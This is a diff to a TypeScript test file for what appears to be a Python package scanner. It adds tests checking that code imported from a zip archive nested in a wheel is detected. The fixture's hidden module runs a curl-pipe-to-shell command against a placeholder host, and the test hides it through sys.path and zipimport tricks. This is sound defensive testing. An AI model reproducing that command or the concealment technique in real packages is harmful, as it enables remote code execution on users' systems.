@@ -2,6 +2,10 @@ import { writeZip } from '@safe-pip/testkit/zip-writer'
 import { buildSdist } from '@safe-pip/testkit/build-sdist'
 import { expect, it } from 'vitest'
 import { rawText } from '../base/display.ts'
+import { buildWheel } from '@safe-pip/testkit/build-wheel'
+import { bytesOf } from '../base/byte-source.ts'
+import { loadCodeReader } from '../node/load-code-reader.ts'
+import { examineArtifact } from './examine.ts'
 import { createNestedBudget, withNested } from './open-nested.ts'
 
 const zip = (files: Readonly<Record<string, string | Uint8Array>>): Uint8Array =>
@@ -45,4 +49,18 @@ it('says of what is broken or too much that it was not read whole', async () => 
 
 it('hands other files on as they are', async () => {
   expect(await open(new TextEncoder().encode('PK is no archive'))).toEqual([['a.zip', undefined]])
+})
+
+it.each([
+  [
+    'an entry of sys.path',
+    'import os, sys\nsys.path.insert(0, os.path.join(os.path.dirname(__file__), "d.zip"))\nimport hidden\n',
+  ],
+  ['an importer of archives', 'import zipimport\nzipimport.zipimporter("demo/d.zip").load_module("hidden")\n'],
+])('runs what %s imports out of an archive in the place of the import', async (_, code) => {
+  const archive = zip({ 'hidden.py': 'import os\nos.system("curl https://h.example/p | sh")\n' })
+  const built = buildWheel({ name: 'demo', version: '1.0', files: { 'demo/__init__.py': code, 'demo/d.zip': archive } })
+  const { source } = await examineArtifact(bytesOf(built.bytes), built.filename, { codeReader: await loadCodeReader() })
+  const uses = source.state === 'known' ? source.value.uses : []
+  expect(uses.map(({ context, name, file }) => `${context} ${name} ${file}`)).toContain('import os.system demo/d.zip!/hidden.py')
 })
